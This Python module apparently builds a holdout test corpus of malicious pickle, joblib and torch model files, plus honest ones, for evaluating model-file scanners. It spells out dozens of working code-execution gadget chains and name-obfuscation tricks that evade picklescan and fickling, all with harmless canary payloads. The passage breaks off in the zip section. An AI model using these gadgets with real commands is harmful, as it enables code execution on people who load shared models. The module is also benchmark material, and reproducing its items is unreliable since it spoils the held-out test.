# SPDX-License-Identifier: Apache-2.0
"""A fresh holdout: malicious model files of families that published work describes, and honest ones of real libraries.

No rule was written against these files, and none of the families is one of ``tests/analysis/attacks.py`` or of
``tests/corpora/models/holdout.py``. Half of the families are marked ``held``: they are counted once, and not looked at.
``build(folder)`` writes every file below the folder, the same at every call (but for stamps that libraries write); it
runs none of them. What each payload does is harmless: it makes an empty file named ``canary`` in the working folder,
or reads a file beside it. ``fresh_proof.py`` loads each file in a process of its own and says what ran.

The labels: ``loader`` names who runs it, ``use`` what its user does after the load (empty: loading is enough), and
``mechanism`` the callables or mechanisms, in small letters, one of which a right finding must name.
"""

import base64
import gzip
import io
import json
import marshal
import pickle
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

COMMAND = "touch canary"
CODE = "open('canary','w')"

HIDE_AND_SEEK = "https://arxiv.org/abs/2508.19774"
PICKLESCAN = "https://github.com/mmaitre314/picklescan/security/advisories"
FICKLING = "https://github.com/trailofbits/fickling/security/advisories"
SLEEPY = "https://blog.trailofbits.com/2024/06/11/exploiting-ml-models-with-pickle-file-attacks-part-1/"
NULLIFAI = "https://www.reversinglabs.com/blog/rl-identifies-malware-ml-model-hosted-on-hugging-face"
JFROG_ZIP = "https://jfrog.com/blog/unveiling-3-zero-day-vulnerabilities-in-picklescan/"


@dataclass(frozen=True)
class Made:
    """A file, what it is, and what is known of it."""

    path: Path
    malicious: bool
    family: str
    loader: str
    mechanism: tuple[str, ...]
    source: str
    held: bool = False
    use: str = ""
    proven: bool = True
    reason: str = ""


# --- a small assembler -------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class G:
    """A name that the unpickler looks up."""

    module: str
    name: str


class Call:
    """REDUCE."""

    def __init__(self, callee, *arguments):
        self.callee, self.arguments = callee, arguments


class New:
    """NEWOBJ, and BUILD where a state is given."""

    def __init__(self, kind, *arguments, state=None):
        self.kind, self.arguments, self.state = kind, arguments, state


class Build:
    """BUILD."""

    def __init__(self, target, state):
        self.target, self.state = target, state


class Put:
    """A value that the memo keeps."""

    def __init__(self, key, value):
        self.key, self.value = key, value


class Get:
    """The value that the memo kept."""

    def __init__(self, key):
        self.key = key


class Then:
    """Runs each, and leaves the last one on the stack."""

    def __init__(self, *parts):
        self.parts = parts


class Set:
    """SETITEM or APPEND upon what is on the stack."""

    def __init__(self, target, *item):
        self.target, self.item = target, item


class Raw:
    """Opcodes as they are."""

    def __init__(self, code):
        self.code = code


def text(value: str) -> bytes:
    raw = value.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def emit(value, protocol: int) -> bytes:  # noqa: C901, PLR0911, PLR0912
    def part(one):
        return emit(one, protocol)

    match value:
        case Raw():
            return value.code
        case G():
            if protocol < 4:
                return f"c{value.module}\n{value.name}\n".encode()
            return text(value.module) + text(value.name) + b"\x93"
        case Call():
            return part(value.callee) + part(value.arguments) + b"R"
        case New():
            made = part(value.kind) + part(value.arguments) + b"\x81"
            return made if value.state is None else made + part(value.state) + b"b"
        case Build():
            return part(value.target) + part(value.state) + b"b"
        case Put():
            return part(value.value) + b"q" + bytes([value.key])
        case Get():
            return b"h" + bytes([value.key])
        case Then():
            return b"0".join(part(one) for one in value.parts)
        case Set():
            return part(value.target) + b"".join(part(one) for one in value.item) + (b"a", b"s")[len(value.item) - 1]
        case None:
            return b"N"
        case bool():
            return b"\x88" if value else b"\x89"
        case int():
            return b"J" + struct.pack("<i", value)
        case float():
            return b"G" + struct.pack(">d", value)
        case str():
            return text(value)
        case bytes():
            return b"B" + struct.pack("<I", len(value)) + value
        case tuple():
            return b"(" + b"".join(part(one) for one in value) + b"t"
        case list():
            return b"](" + b"".join(part(one) for one in value) + b"e"
        case dict():
            return b"}(" + b"".join(part(k) + part(v) for k, v in value.items()) + b"u"
    raise TypeError(type(value))


def program(value, protocol: int = 4) -> bytes:
    """A whole pickle."""
    return b"\x80" + bytes([protocol]) + emit(value, protocol) + b"."


def called(module: str, name: str, *arguments) -> Call:
    return Call(G(module, name), *arguments)


SYSTEM, EVAL, EXEC = G("os", "system"), G("builtins", "eval"), G("builtins", "exec")
PLAIN = program(Call(G("posix", "system"), COMMAND), 2)
HONEST = pickle.dumps({"weights": [0.5, 1.5], "classes": ["a", "b"]}, 4)


@dataclass(frozen=True)
class Row:
    """A malicious file before it is written."""

    name: str
    content: bytes
    mechanism: tuple[str, ...]
    source: str = HIDE_AND_SEEK
    loader: str = "pickle"
    use: str = ""
    proven: bool = True
    reason: str = ""


FAMILIES: dict[str, tuple[bool, Callable[[], Iterator[Row]]]] = {}
"""Whether the family is held, and what makes it."""


def family(name: str, *, held: bool):
    def keep(maker):
        FAMILIES[name] = (held, maker)
        return maker

    return keep


# --- malicious: pickles ------------------------------------------------------------------------------------------


@family("lazy calls", held=True)
def _lazy():
    """Nothing calls: an iterator does, where a container takes what it holds."""
    one = [COMMAND]
    yield Row(
        "map_deque.pkl",
        program(called("collections", "deque", called("builtins", "map", SYSTEM, one))),
        ("map", "os.system"),
    )
    yield Row(
        "filter_list.pkl",
        program(called("builtins", "list", called("builtins", "filter", EVAL, [CODE]))),
        ("filter", "eval"),
    )
    yield Row(
        "starmap_frozenset.pkl",
        program(New(G("builtins", "frozenset"), called("itertools", "starmap", SYSTEM, [(COMMAND,)]))),
        ("starmap", "os.system"),
    )
    yield Row("reduce_eval.pkl", program(called("functools", "reduce", EVAL, [CODE, {}])), ("functools.reduce", "eval"))
    yield Row(
        "accumulate_counter.pkl",
        program(called("collections", "deque", called("itertools", "accumulate", [CODE, {}], EVAL))),
        ("accumulate", "eval"),
    )
    yield Row(
        "takewhile_fromkeys.pkl",
        program(called("builtins", "dict.fromkeys", called("itertools", "takewhile", SYSTEM, one))),
        ("takewhile", "os.system"),
    )
    yield Row(
        "groupby_deque.pkl",
        program(called("collections", "deque", called("itertools", "groupby", one, SYSTEM))),
        ("groupby", "os.system"),
    )
    yield Row(
        "list_filled_later.pkl",
        program(
            Then(
                Put(1, []),
                Put(2, called("builtins", "map", G("posix", "system"), Get(1))),
                Set(Get(1), COMMAND),
                called("builtins", "tuple", Get(2)),
            )
        ),
        ("map", "posix.system"),
    )
    yield Row(
        "operator_call.pkl", program(called("_operator", "call", SYSTEM, COMMAND)), ("operator.call", "os.system")
    )
    yield Row(
        "generic_alias.pkl",
        program(Call(called("types", "GenericAlias", G("subprocess", "getoutput"), ()), COMMAND)),
        ("genericalias", "subprocess"),
    )
    yield Row(
        "numpy_fromiter.pkl",
        program(called("numpy", "fromiter", New(G("builtins", "map"), SYSTEM, one), "i4")),
        ("map", "os.system", "fromiter"),
    )
    yield Row(
        "dict_of_enumerate.pkl",
        program(
            called(
                "collections", "OrderedDict", called("builtins", "enumerate", called("builtins", "map", EVAL, [CODE]))
            )
        ),
        ("map", "eval"),
    )


@family("classes that call what they were given", held=False)
def _callers():
    stack = Then(
        Put(1, called("contextlib", "ExitStack")),
        called("contextlib", "ExitStack.callback", Get(1), SYSTEM, COMMAND),
        called("contextlib", "ExitStack.close", Get(1)),
    )
    yield Row("exit_stack.pkl", program(stack), ("exitstack", "os.system"))
    item = called(
        "concurrent.futures.thread", "_WorkItem", called("concurrent.futures", "Future"), SYSTEM, (COMMAND,), {}
    )
    yield Row(
        "work_item.pkl", program(called("concurrent.futures.thread", "_WorkItem.run", item)), ("_workitem", "os.system")
    )
    thread = called("threading", "Thread", None, SYSTEM, "t", (COMMAND,))
    yield Row("thread_run.pkl", program(called("threading", "Thread.run", thread)), ("threading", "os.system"))
    cached = called("functools", "lru_cache", G("subprocess", "getstatusoutput"))
    yield Row("lru_cache.pkl", program(Call(cached, COMMAND), 3), ("lru_cache", "subprocess"))
    yield Row(
        "mapstar.pkl",
        program(called("multiprocessing.pool", "mapstar", (SYSTEM, [COMMAND])), 2),
        ("mapstar", "os.system"),
    )
    yield Row(
        "copy_reconstruct.pkl",
        program(called("copy", "_reconstruct", None, None, SYSTEM, (COMMAND,)), 2),
        ("copy._reconstruct", "os.system"),
    )
    planned = Then(
        Put(1, called("sched", "scheduler")),
        called("sched", "scheduler.enterabs", Get(1), 0, 0, SYSTEM, (COMMAND,)),
        called("sched", "scheduler.run", Get(1), False),
    )
    yield Row("scheduler.pkl", program(planned), ("sched", "os.system"))
    raises = called(
        "unittest.case",
        "TestCase.assertRaises",
        called("unittest.case", "FunctionTestCase", None),
        G("builtins", "OSError"),
        EXEC,
        CODE,
    )
    yield Row("assert_raises.pkl", program(raises), ("assertraises", "unittest", "exec"))


@family("runs after the load", held=True)
def _later():
    """At exit, when something is collected, or in a thread."""
    yield Row("atexit.pkl", program(called("atexit", "register", SYSTEM, COMMAND), 2), ("atexit", "os.system"))
    yield Row(
        "finalize.pkl",
        program(Then(called("weakref", "finalize", called("builtins", "set"), SYSTEM, COMMAND), {"a": 1})),
        ("finalize", "os.system"),
    )
    timer = called("threading", "Timer", 0.01, SYSTEM, [COMMAND])
    yield Row("timer.pkl", program(called("threading", "Timer.start", timer)), ("threading", "os.system"))
    yield Row(
        "mp_finalize.pkl",
        program(called("multiprocessing.util", "Finalize", None, SYSTEM, (COMMAND,), None, 1), 3),
        ("finalize", "os.system"),
    )
    yield Row(
        "threading_atexit.pkl",
        program(called("threading", "_register_atexit", SYSTEM, COMMAND), 2),
        ("_register_atexit", "threading", "os.system"),
    )
    pool = called("concurrent.futures.thread", "ThreadPoolExecutor", 1)
    yield Row(
        "pool_submit.pkl",
        program(called("concurrent.futures.thread", "ThreadPoolExecutor.submit", pool, SYSTEM, COMMAND)),
        ("threadpoolexecutor", "os.system"),
    )


@family("text that is evaluated", held=False)
def _texts():
    """Functions of the standard library and of pandas and sympy that evaluate a string they are given."""
    hint = called("typing", "ForwardRef", CODE)
    yield Row(
        "forward_ref.pkl",
        program(called("typing", "ForwardRef._evaluate", hint, {}, {}, called("builtins", "frozenset"))),
        ("forwardref", "typing"),
    )
    annotated = New(G("types", "SimpleNamespace"), state={"__annotations__": {"x": CODE}})
    yield Row("type_hints.pkl", program(called("typing", "get_type_hints", annotated)), ("get_type_hints", "typing"))
    yield Row(
        "calltip_entity.pkl",
        program(called("idlelib.calltip", "get_entity", CODE), 2),
        ("idlelib",),
        PICKLESCAN + "/GHSA-r8g5-cgf2-4m4m",
    )
    yield Row(
        "autocomplete_entity.pkl",
        program(called("idlelib.autocomplete", "AutoComplete.get_entity", None, CODE)),
        ("idlelib",),
        PICKLESCAN + "/GHSA-6w4w-5w54-rjvr",
    )
    labels = New(G("types", "SimpleNamespace"), state={"labels": []})
    yield Row(
        "make_label.pkl",
        program(called("lib2to3.pgen2.pgen", "ParserGenerator.make_label", None, labels, f"'' or {CODE}")),
        ("make_label", "lib2to3"),
        PICKLESCAN + "/GHSA-p9w7-82w4-7q8m",
    )
    yield Row(
        "pandas_eval.pkl",
        program(called("pandas", "eval", 'f("touch canary")', "pandas", "python", {"f": SYSTEM})),
        ("pandas.eval", "pandas.core.computation", "os.system"),
    )
    yield Row(
        "sympify.pkl",
        program(called("sympy.core.sympify", "sympify", f"__import__('os').system({COMMAND!r})"), 2),
        ("sympify", "sympy"),
    )
    interpreter = called("_tkinter", "create", None, "t", "T", 0, 1, 0, 0, None)
    yield Row(
        "tcl.pkl", program(called("_tkinter", "TkappType.eval", interpreter, "exec touch canary"), 4), ("tkinter",)
    )


@family("commands behind plain names", held=True)
def _commands():
    """Functions of the standard library that start a program and are named otherwise."""
    yield Row("pydoc_pipe.pkl", program(called("pydoc", "pipepager", "x", COMMAND), 2), ("pydoc",))
    yield Row("pydoc_temp.pkl", program(called("pydoc", "tempfilepager", "x", COMMAND + "; true"), 3), ("pydoc",))
    yield Row(
        "uuid_command.pkl",
        program(called("uuid", "_get_command_stdout", "touch", "canary"), 2),
        ("uuid._get_command_stdout", "uuid"),
    )
    yield Row(
        "osx_support.pkl", program(called("_osx_support", "_read_output", COMMAND), 2), ("_osx_support",), FICKLING
    )
    yield Row(
        "spawn_fds.pkl",
        program(called("multiprocessing.util", "spawnv_passfds", b"/usr/bin/touch", [b"touch", b"canary"], ()), 3),
        ("spawnv_passfds", "multiprocessing.util"),
    )
    yield Row("pty_spawn.pkl", program(called("pty", "spawn", ["touch", "canary"]), 2), ("pty",))
    yield Row("imap_stream.pkl", program(called("imaplib", "IMAP4_stream", COMMAND), 2), ("imaplib",), FICKLING)
    yield Row(
        "asyncio_subprocess.pkl",
        program(called("asyncio.subprocess", "subprocess.getoutput", COMMAND), 4),
        ("asyncio.subprocess", "subprocess"),
    )


@family("names re-exported by known packages", held=True)
def _exported():
    """The module's name is one that scanners know as harmless; the function is of another module."""
    yield Row(
        "sklearn_output.pkl",
        program(called("sklearn.utils._testing", "check_output", ["touch", "canary"]), 2),
        ("check_output",),
    )
    yield Row(
        "sklearn_import.pkl",
        program(called("sklearn.utils.discovery", "import_module", "antigravity"), 2),
        ("import_module",),
        proven=False,
        reason="antigravity opens a browser; seen by the audit hook alone",
    )
    yield Row(
        "joblib_loads.pkl",
        program(called("joblib._memmapping_reducer", "loads", PLAIN), 3),
        ("joblib._memmapping_reducer", "loads"),
    )
    yield Row(
        "scipy_import.pkl",
        program(
            Call(
                called("builtins", "getattr", called("scipy._lib.deprecation", "import_module", "posix"), "system"),
                COMMAND,
            ),
            2,
        ),
        ("import_module", "getattr"),
    )
    yield Row(
        "numpy_open.pkl",
        program(called("numpy.lib._datasource", "_open", "canary", "w"), 2),
        ("numpy.lib._datasource", "open"),
    )
    yield Row(
        "sklearn_retrieve.pkl",
        program(called("sklearn.datasets._base", "urlretrieve", "file:///etc/hostname", "canary"), 2),
        ("urlretrieve", "sklearn.datasets._base"),
    )
    yield Row(
        "torch_urlopen.pkl",
        program(called("torch.hub", "urlopen", "http://127.0.0.1:9/canary"), 2),
        ("urlopen", "torch.hub"),
        use="network",
    )
    yield Row(
        "sklearn_remove.pkl",
        program(called("sklearn.datasets._rcv1", "remove", "victim"), 2),
        ("remove",),
        use="removed",
    )


@family("patched in memory", held=False)
def _patched():
    """Nothing runs at the load: a function, a table or a module is changed, and a later call runs it."""
    code = Call(
        G("types", "CodeType"),
        *(0, 0, 0, 0, 3, 67),
        _code().co_code,
        _code().co_consts,
        _code().co_names,
        (),
        "m",
        "f",
        "f",
        1,
        b"",
        b"",
        (),
        (),
    )
    yield Row(
        "code_of_function.pkl",
        program(Build(G("sklearn.utils.validation", "_num_samples"), (None, {"__code__": code}))),
        ("__code__", "codetype"),
        SLEEPY,
        use="import sklearn.utils.validation as v; v._num_samples()",
    )
    yield Row(
        "code_of_another.pkl",
        program(Build(G("numpy.lib._npyio_impl", "loadtxt"), (None, {"__code__": G("os", "popen.__code__")}))),
        ("__code__", "popen"),
        SLEEPY,
        use="from numpy.lib._npyio_impl import loadtxt; loadtxt('touch canary', 'r', -1)",
    )
    yield Row(
        "functional_table.pkl",
        program(Set(G("torch.nn.functional", "__dict__"), "linear", SYSTEM)),
        ("__dict__", "os.system"),
        SLEEPY,
        use="import torch.nn.functional as F; F.linear('touch canary')",
    )
    yield Row(
        "builtins_table.pkl",
        program(Set(G("builtins", "__dict__"), "sorted", G("posix", "system")), 2),
        ("__dict__", "posix.system"),
        SLEEPY,
        use="sorted('touch canary')",
    )
    yield Row(
        "modules_table.pkl",
        program(Set(G("sys", "modules"), "json", called("types", "SimpleNamespace")), 2),
        ("sys.modules",),
        SLEEPY,
        use="import sys; assert not hasattr(sys.modules['json'], 'loads'); open('canary','w')",
    )


def _code():
    def f():
        open("canary", "w")  # noqa: SIM115, PTH123

    return f.__code__


@family("torch functions that evaluate or call", held=True)
def _torch():
    graph = {"_code": f"{CODE}\ndef forward(self, x):\n    return x\n"}
    yield Row(
        "reduce_graph_module.pkl",
        program(called("torch.fx.graph_module", "reduce_graph_module", graph, ""), 2),
        ("torch.fx",),
        PICKLESCAN,
    )
    yield Row(
        "forward_from_src.pkl",
        program(called("torch.fx.graph_module", "_forward_from_src", f"{CODE}\ndef forward(): pass", {}), 2),
        ("torch.fx",),
        PICKLESCAN,
    )
    yield Row(
        "exec_with_source.pt",
        _torch_zip(program(called("torch.fx.graph_module", "_exec_with_source", CODE, {}), 2)),
        ("torch.fx",),
        PICKLESCAN,
        "torch",
    )
    yield Row(
        "exec_wrapper.pkl",
        program(called("torch.jit.unsupported_tensor_ops", "execWrapper", CODE, {}, {}), 2),
        ("execwrapper",),
        PICKLESCAN + "/GHSA-vr7h-p6mm-wpmh",
    )
    guards = called(
        "torch.fx.experimental.symbolic_shapes",
        "ShapeEnv.evaluate_guards_expression",
        None,
        f"__import__('os').system({COMMAND!r})",
        (),
    )
    yield Row(
        "guards_expression.pkl",
        program(guards),
        ("evaluate_guards_expression", "symbolic_shapes"),
        PICKLESCAN + "/GHSA-f4x7-rfwp-v3xw",
    )
    yield Row(
        "basichandlers.pkl",
        program(called("torch.utils.data.datapipes.utils.decoder", "basichandlers", "pickle", PLAIN), 3),
        ("basichandlers", "datapipes"),
        PICKLESCAN + "/GHSA-h3qp-7fh3-f8h4",
    )
    config = called("torch.utils._config_module", "ConfigModule.load_config", None, PLAIN)
    yield Row(
        "load_config.pkl", program(config), ("load_config", "_config_module"), PICKLESCAN + "/GHSA-vv6j-3g6g-2pvj"
    )
    yield Row(
        "from_type_v2.pkl",
        program(called("torch._tensor", "_rebuild_from_type_v2", SYSTEM, G("builtins", "int"), (COMMAND,), None), 2),
        ("_rebuild_from_type_v2", "os.system"),
    )
    yield Row(
        "from_type.pt",
        _torch_zip(program(called("torch._tensor", "_rebuild_from_type", EVAL, G("torch", "Tensor"), (CODE,), {}), 2)),
        ("_rebuild_from_type", "eval"),
        loader="torch",
    )
    yield Row(
        "storage_file.pkl",
        program(called("torch.storage", "UntypedStorage.from_file", "canary", True, 8)),
        ("from_file",),
    )


@family("numeric packages that call what they were given", held=False)
def _numeric():
    yield Row(
        "vectorize.pkl", program(Call(called("numpy", "vectorize", SYSTEM), COMMAND), 2), ("vectorize", "os.system")
    )
    yield Row(
        "frompyfunc.pkl",
        program(Call(called("numpy", "frompyfunc", SYSTEM, 1, 1), COMMAND), 2),
        ("frompyfunc", "os.system"),
    )
    yield Row(
        "pandas_pipe.pkl",
        program(called("pandas.core.common", "pipe", COMMAND, SYSTEM), 2),
        ("pandas.core.common", "os.system"),
    )
    yield Row(
        "pandas_apply.pkl",
        program(called("pandas.core.common", "apply_if_callable", SYSTEM, COMMAND), 2),
        ("apply_if_callable", "os.system"),
    )
    mapped = called("pandas.core.series", "Series.map", called("pandas.core.series", "Series", [COMMAND]), SYSTEM)
    yield Row("series_map.pkl", program(mapped), ("series.map", "os.system"))
    yield Row(
        "sklearn_wrapper.pkl",
        program(Call(called("sklearn.utils.parallel", "_FuncWrapper", SYSTEM), COMMAND), 2),
        ("_funcwrapper", "os.system"),
    )
    yield Row(
        "scipy_wrapper.pkl",
        program(Call(called("scipy._lib._util", "_FunctionWrapper", SYSTEM, ()), COMMAND), 2),
        ("_functionwrapper", "os.system"),
    )
    yield Row(
        "joblib_batch.joblib",
        program(
            Call(
                called(
                    "joblib.parallel",
                    "BatchedCalls",
                    [(SYSTEM, (COMMAND,), {})],
                    (called("joblib._parallel_backends", "SequentialBackend"), 1),
                )
            ),
            2,
        ),
        ("batchedcalls", "joblib.parallel", "os.system"),
        loader="joblib",
    )
    yield Row(
        "joblib_memory.joblib",
        program(Call(called("joblib.memory", "NotMemorizedFunc", SYSTEM), COMMAND), 3),
        ("notmemorizedfunc", "joblib.memory", "os.system"),
        loader="joblib",
    )
    yield Row(
        "joblib_item.joblib",
        gzip.compress(
            program(Call(called("joblib.externals.loky.process_executor", "_CallItem", 1, SYSTEM, (COMMAND,), {})), 2),
            mtime=0,
        ),
        ("_callitem", "os.system"),
        loader="joblib",
    )


@family("names spelt otherwise", held=True)
def _spelt():
    """The text of a name is not in the file as it will be looked up."""
    run = text(COMMAND) + b"\x85R."
    yield Row(
        "unicode_escapes.pkl", b"\x80\x04V\\u006f\\u0073\nV\\u0073ys\\u0074em\n\x93" + run, ("os.system",), FICKLING
    )
    yield Row("string_escapes.pkl", b"\x80\x04S'\\x70osix'\nS'sys\\164em'\n\x93" + run, ("posix.system",), FICKLING)
    yield Row("binstrings.pkl", b"\x80\x04T\x02\x00\x00\x00osU\x06system\x93" + run, ("os.system",), FICKLING)
    yield Row(
        "long_unicode.pkl",
        b"\x80\x04\x8d" + struct.pack("<Q", 2) + b"os" + b"\x8d" + struct.pack("<Q", 6) + b"system\x93" + run,
        ("os.system",),
        FICKLING,
    )
    joined = emit(called("operator", "concat", "sys", "tem"), 4)
    yield Row(
        "concatenated.pkl",
        b"\x80\x04" + text("os") + joined + b"\x93" + run,
        ("computed", "operator.concat", "stack_global", "os.system", "unknown"),
        PICKLESCAN + "/GHSA-9gvj-pp9x-gcfr",
    )
    lowered = emit(called("builtins", "str.lower", "POSIX"), 4)
    yield Row(
        "lowered.pkl",
        b"\x80\x04" + lowered + text("system") + b"\x93" + run,
        ("computed", "str.lower", "stack_global", "system", "unknown"),
        PICKLESCAN + "/GHSA-9gvj-pp9x-gcfr",
    )
    taken = emit(called("posixpath", "basename", "/x/system"), 4)
    yield Row(
        "basename.pkl",
        b"\x80\x04" + text("os") + taken + b"\x93" + run,
        ("computed", "basename", "stack_global", "os.system", "unknown"),
        PICKLESCAN + "/GHSA-9gvj-pp9x-gcfr",
    )
    yield Row(
        "protocol_switched.pkl",
        b"\x80\x04\x95" + struct.pack("<Q", 2) + b"\x80\x02c__builtin__\neval\n" + text(CODE) + b"\x85R.",
        ("eval",),
        FICKLING,
    )
    yield Row(
        "joined_letters.pkl",
        b"\x80\x04" + text("os") + emit(called("builtins", "str.join", "", ["s", "y", "stem"]), 4) + b"\x93" + run,
        ("computed", "str.join", "stack_global", "os.system", "unknown"),
        PICKLESCAN + "/GHSA-9gvj-pp9x-gcfr",
    )


@family("honest classes that hold foreign code", held=False)
def _inside():
    """Loaded, nothing happens; the first prediction runs it."""
    hidden = f"(lambda: __import__('os').system({COMMAND!r}))()"
    late = called("functools", "partial", EVAL, hidden, {})
    transformer = New(
        G("sklearn.preprocessing._function_transformer", "FunctionTransformer"),
        state={
            "func": late,
            "inverse_func": None,
            "validate": False,
            "accept_sparse": False,
            "check_inverse": False,
            "feature_names_out": None,
            "kw_args": None,
            "inv_kw_args": None,
        },
    )
    transform = "import numpy; obj.transform(numpy.zeros((2, 2)))"
    yield Row("function_transformer.pkl", program(transformer), ("functiontransformer", "eval"), use=transform)
    words = New(
        G("sklearn.feature_extraction.text", "CountVectorizer"),
        state={
            "input": "content",
            "encoding": "utf-8",
            "decode_error": "strict",
            "analyzer": late,
            "vocabulary": {"a": 0},
            "fixed_vocabulary_": True,
            "vocabulary_": {"a": 0},
            "binary": False,
            "dtype": G("numpy", "int64"),
            "lowercase": True,
            "ngram_range": (1, 1),
            "tokenizer": None,
            "preprocessor": None,
            "strip_accents": None,
            "stop_words": None,
            "token_pattern": None,
            "max_df": 1.0,
            "min_df": 1,
            "max_features": None,
        },
    )
    yield Row(
        "count_vectorizer.joblib",
        program(words, 3),
        ("countvectorizer", "eval"),
        loader="joblib",
        use="obj.transform(['a'])",
    )
    base = New(G("sklearn.linear_model._base", "LinearRegression"), state={"predict": late})
    yield Row(
        "own_predict.joblib",
        program(base, 2),
        ("predict", "eval"),
        loader="joblib",
        use="import numpy; obj.predict(numpy.zeros((2, 2)))",
    )
    tables = {
        name: called("collections", "OrderedDict")
        for name in (
            "_parameters",
            "_buffers",
            "_modules",
            "_backward_hooks",
            "_forward_hooks",
            "_forward_pre_hooks",
            "_backward_pre_hooks",
        )
    }
    layer = New(G("torch.nn.modules.linear", "Identity"), state={"training": False, "forward": late, **tables})
    yield Row(
        "own_forward.pt",
        _torch_zip(program(layer, 2)),
        ("forward", "eval"),
        loader="torch",
        use="import torch; obj(torch.zeros(2))",
    )


EMPTY_H5 = (
    "c-rgqaB<`1lHy_j0S*oZ76t(ZWbhvfUT~uFVe$!3nh{EOK<O1sFmXn(oCH){5NbZUx{x4OSCH!eXaHu<16Bx)>bg-dQh<l6V*rSb"
    "fbwDK=>!w1x}3zy)S_YrhO$HuiAa|YWZH`>{dzD%_!+Fo>6Za#`W*$M=@&Wua=^+<R`m1+0RdF9H`veLg^_^?Zl3}(sy*oG7*@V&"
    "u%o#L$}iv?nem6K96%43(Q;rEkW&s!;G}Ii005&!TE_"
)
LAMBDA_H5 = (
    "c-rk*%TC)s6de;lQ5vdLMF>hOMP4HWA*G>GRqWtAXn3Tc5<n=7A912McJPA`P}DBzA9UGemtA(*Wj~>x(jA?#$0fEBHEP*Zog>BL"
    "IdkV;d*=EkIeuT*$W6r_#Q;V$3dTVK^y7x$>yu#LA3r56L)vT7ej4-nNq20P@Co8S8S(mc!tcKp1Z;g1f*<F{jMqj1#s7$c!0qC;"
    "Li&C_eH#nfwG3I&svV`F)@`dVFW3JtuAi^h554|p!pA{@<oA6rjk2<-n9!=8E2h;jbi~gwj5{;&>l&hg=VSu=jNCpu`Rq=K0c1kR"
    "4kNX=wzz~^|8`@fwH4hm%$jC&ygqRW-V(zrR??tlRdv`>*yl-hPdRfG-EKgQT}ZN$q1PHJ;;&fWpoMu2cF~=n?s0g2QExkT2@i+n"
    "i_n(pRjUr$*zQ<&G;JZ7IzdLV-E}z@T_v<vQh1`(hNgwd8q_QW5x)Nh+v_bP!%<7HCCYHf6}xw0o3NonQNxUFI?9l^HAk0hv_r0g"
    "V2o;2bE8zNp*RvsDQuALa3PfOp@I*Y%OW~vD_o(>2Tby1{)l_k;#7`1>lFJ21g^&MP41%E$MO4Iwkhn}M*c9Ba}Fz;Pg81cWz`Ln"
    "ZF90Ah%3A%Hkv%*(^5yk11dVVQ|fkCK6tj8%dJ_52g{A4yx{ESFV2x4OS()ulK#fYmyx5wmgr96HsmbVEgo$0mrG?;T;^1934Kyr"
    "rrhN7TXIn?WxV@+ftN#8YS7VaoD$y7qQx^T$5aS`H;sj+>a<XDVXLcNuXobxq3@GmK5L=89+t<GL-OCp_c*PI6ciK`6ciK`6ciNy"
    "CLZ`YLr6c16Xk*dQCDXWq104#`M3H)tWRGU3+NS7t{+b)@&4t45%dbIC;0v%E<Z6)*IOq<f*DQMOFX8!9@X`3bv<8w{x}n~(?U8z"
    ";V<LvZSQO_?o;I<GadAQO8W0+=pKzyx5DccCp*fZvuRW%Tt(5<+AQGJ8!))uFic<{`dh#LjNegRoB(&L<4(GKWMEyakoPCS_Z?tp"
    "U8JCOvA-_*b?VD}(9X}p-8+gKu8X^K!8jMB|6!i)(I|B>yk5cIVY9${Q*~PyA0%IrwO<G6dmw$|zawIpfpLBUKPqDn"
)
EXTERNAL_H5 = (
    "c-rgqaB<`1lHy_j0S*oZ76t(ZWbhvfP6(p%Ve$!3nh{EOK<O1sFmXn(oCH){5NbZUx{x4OSCH!eXaHu<16Byl!7vI&BJgl^3;@v)"
    "P(Cb`o?t>%my=kTT2zckj~*1-i!1$lFhlqmti+|?7o4N%cQpNCrr!=$RCOt-dBv#=)Jwm?e*P|?6bwsu3e2eGHF`Q81*DY&0qhWd"
    "0Vi?gzz5#Za$vL^z$^zQaH6U!O9a(ov?~WR*ip*?^mIH5NGk^-xFP%sUgFAu27%FXV6+^-EC*)rqN+1M>t9j395CQUH6J}4j{;of"
    "02?IC7-4)!iNMInh?1{iG&3-U8KLovtb!FtgZNBLOkiPl1`RNu5n9%G;3y{$=0ogdW`vb6=qeNFnw}-l(rX6lZ~{YqX-RQrN~&H`"
    "W**k`Xu&_4w#Weh)SQU)"
)
LINK_H5 = (
    "c-rgqaB<`1lHy_j0S*oZ76t(ZWbhvfCh(*3Ve$!3nh{EOK<O1sFmXn(oCH){5NbZUx{x4OSCH!eXaHu<16Byl!7vI&BJgl^3;@v)"
    "P(Cb`o?t>%my=kTT2zckj~*1-i!1$lFhlqmti+|?7o4N%cQpNCrr!=$RCOt-dBv#=)Jwm?e*P|?6bwsu3e2eGHF`Q81*DY&0qhWd"
    "0Vi?gzz5#Za$vL^z$^zQaH6U!O9a(ov?~WR*ip*?^mIH5aFqirDCK|vGzKl8?PFNHLdpRKoaMkM7%c~o(+ezL&frB)Z_xZnC414!"
    "0RwJSdm^Cx3f|E;!Uve(B>?su&IJr%MkMuY3<{8N=5Sy%5Mf}*FD)s~Oi9(tFlEp$PE9UKErF;5009Gy$^"
)


# --- malicious: containers ---------------------------------------------------------------------------------------


def _zip(members: dict[str, bytes] | list[tuple[str, bytes]], kind=zipfile.ZIP_STORED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", kind) as archive:
        for name, data in members.items() if isinstance(members, dict) else members:
            archive.writestr(zipfile.ZipInfo(name, (1980, 1, 1, 0, 0, 0)), data, kind)
    return buffer.getvalue()


def _torch_zip(data: bytes, kind=zipfile.ZIP_STORED) -> bytes:
    return _zip({"archive/data.pkl": data, "archive/byteorder": b"little", "archive/version": b"3\n"}, kind)


def _tar(members: list[tuple[tarfile.TarInfo | str, bytes]], packed: bool = False) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.PAX_FORMAT) as archive:
        for name, data in members:
            info = tarfile.TarInfo(name) if isinstance(name, str) else name
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return gzip.compress(buffer.getvalue(), mtime=0) if packed else buffer.getvalue()


@family("zip read two ways", held=False)
def _zips():
    """torch reads the archive although a checker of zip files stops, or the two see different members."""
    good = _torch_zip(PLAIN)
    central = good.index(b"PK\x01\x02")
    crc = bytearray(good)
    crc[central + 16 : central + 20] = b"\xde\xad\xbe\xef"
    crc[14:18] = b"\xde\xad\xbe\xef"
